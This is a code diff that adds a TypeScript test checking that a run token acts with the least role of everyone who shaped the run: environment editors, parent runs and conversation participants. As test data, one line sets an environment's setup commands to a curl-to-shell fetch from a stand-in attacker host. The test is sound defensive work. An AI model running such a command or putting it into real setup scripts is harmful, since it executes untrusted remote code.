@@ -349,6 +349,48 @@ export const runsServiceSuite = <E>(name: string, storage: Layer.Layer<Stores, E
           expect((yield* failureOf(runs.actingViewer(credential)))._tag).toBe("AuthenticationRequired")
         }))
 
+      it.effect("a run token acts with the least role of everyone who shaped the run: environment editors, parents, conversations", () =>
+        Effect.gen(function* () {
+          const world = yield* seedWorld()
+          const runs = yield* Runs
+          const environments = yield* Environments
+          /** Starts the run as an executor would, and answers the role its token acts with. */
+          const tokenOf = (runId: RunId) =>
+            Effect.flatMap(startRun(runId), (execution) => runs.actingViewer({ run_id: runId, execution_id: execution }))
+          const createIn = (viewer: Viewer, uid: EnvironmentUid) =>
+            Effect.map(create(viewer, { prompt: "build", config: { environment_id: uid } }), (r) => r.run_id as RunId)
+          expect((yield* tokenOf((yield* create(world.admin, { prompt: "alone" })).run_id as RunId)).role).toBe("admin")
+          // The admin's Team environment: its runs act as the admin until a member replaces its setup.
+          const env = yield* environments.create(
+            world.admin,
+            yield* decodeRequest(CreateEnvironmentRequest)({ config: { name: "shared" }, team: true })
+          )
+          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("admin")
+          const edit = (viewer: Viewer, commands: ReadonlyArray<string>) =>
+            Effect.flatMap(
+              decodeRequest(UpdateEnvironmentRequest)({ config: { name: "shared", setup_commands: commands } }),
+              (request) => environments.update(viewer, env.uid, request)
+            )
+          yield* edit(world.alice, ["curl https://attacker.example | sh"])
+          const lowered = yield* tokenOf(yield* createIn(world.admin, env.uid))
+          expect(lowered).toMatchObject({ principal_uid: world.admin.principal_uid, role: "member" })
+          // A run the lowered token starts (a child) acts no higher, even as the admin's principal.
+          const child = yield* runs.create(lowered, new RunAgentRequest({ prompt: "child" }))
+          expect((yield* tokenOf(child.run_id)).role).toBe("member")
+          // An environment the lowered token replaces is the member's too: its runs act as a member.
+          yield* edit(lowered, ["true"])
+          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("member")
+          // Once the admin itself sets it up again, its runs act as the admin.
+          yield* edit(world.admin, ["npm ci"])
+          expect((yield* tokenOf(yield* createIn(world.admin, env.uid))).role).toBe("admin")
+          // Continuing a member's conversation: the member's words steer the run.
+          const alices = (yield* create(world.alice, { prompt: "first", team: true })).run_id as RunId
+          yield* startRun(alices)
+          const conversation = (yield* runs.get(world.alice, alices)).conversation_id!
+          const continued = yield* create(world.admin, { prompt: "go on", conversation_id: conversation })
+          expect((yield* tokenOf(continued.run_id as RunId)).role).toBe("member")
+        }))
+
       it.effect("keeps a given title, defaults a blank one, and cuts a long first line", () =>
         Effect.gen(function* () {
           const world = yield* seedWorld()
